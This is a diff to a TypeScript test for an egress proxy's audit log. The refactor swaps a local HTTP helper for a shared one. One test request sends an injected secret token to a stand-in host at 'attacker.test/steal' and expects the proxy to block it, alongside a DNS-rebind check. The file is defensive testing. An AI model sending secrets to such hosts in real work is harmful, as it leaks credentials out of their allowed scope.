@@ -3,17 +3,16 @@
  * CLI: `audit show --json RUN_ID` lists them under the run, `audit verify` accepts the chain. The proxy's decision hook writes the records as the gateway will.
  */
 import { readFileSync } from 'node:fs';
-import { request } from 'node:http';
 import { join } from 'node:path';
 import { AuditLog } from '../../src/audit/log';
 import { EGRESS_AUDIT_EVENT, getEgressAuditFields } from '../../src/egress/audit';
 import { parseHostPatterns } from '../../src/egress/hosts';
-import { EgressProxy, type EgressRun } from '../../src/egress/proxy';
+import { EgressProxy } from '../../src/egress/proxy';
 import { normalizeNetworkPolicy } from '../../src/egress/rules';
 import { createSentinel } from '../../src/egress/sentinel';
 import { execgate } from '../audit/helpers';
 import { makeTempDir } from '../helpers/tmp';
-import { makeNames, startService, type TestService } from './helpers';
+import { getThrough, makeNames, startService, type TestService } from './helpers';
 
 const VALUE = 'audit-test-secret-value-0123456789';
 
@@ -30,16 +29,6 @@ afterAll(async () => {
   tmp.cleanup();
 });
 
-function get(run: EgressRun, url: string, headers: Record<string, string> = {}): Promise<number> {
-  return new Promise((resolve, reject) => {
-    const req = request({ socketPath: run.socketPath, path: url, headers: { host: new URL(url).host, ...headers } }, (res) => {
-      res.resume();
-      res.on('end', () => resolve(res.statusCode ?? 0));
-    });
-    req.on('error', reject);
-    req.end();
-  });
-}
 
 test('every decision is in the audit log under its run, with rule and injected references, never the value', async () => {
   const home = join(tmp.dir, 'home');
@@ -57,9 +46,9 @@ test('every decision is in the audit log under its run, with rule and injected r
     network: normalizeNetworkPolicy({ mode: 'allowlist', allow: ['allowed.test', 'rebind.test'] }),
     injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts') }],
   });
-  expect(await get(run, 'http://allowed.test/ok', { 'x-token': sentinel })).toBe(200);
-  expect(await get(run, 'http://attacker.test/steal', { 'x-token': sentinel })).toBe(403);
-  expect(await get(run, 'http://rebind.test/', {})).toBe(403);
+  expect(await getThrough(run, 'http://allowed.test/ok', { 'x-token': sentinel })).toBe(200);
+  expect(await getThrough(run, 'http://attacker.test/steal', { 'x-token': sentinel })).toBe(403);
+  expect(await getThrough(run, 'http://rebind.test/', {})).toBe(403);
   audit.write('exec.finished', { runId, exitCode: 0, durationMs: 12 });
   await run.close();
   await proxy.close();
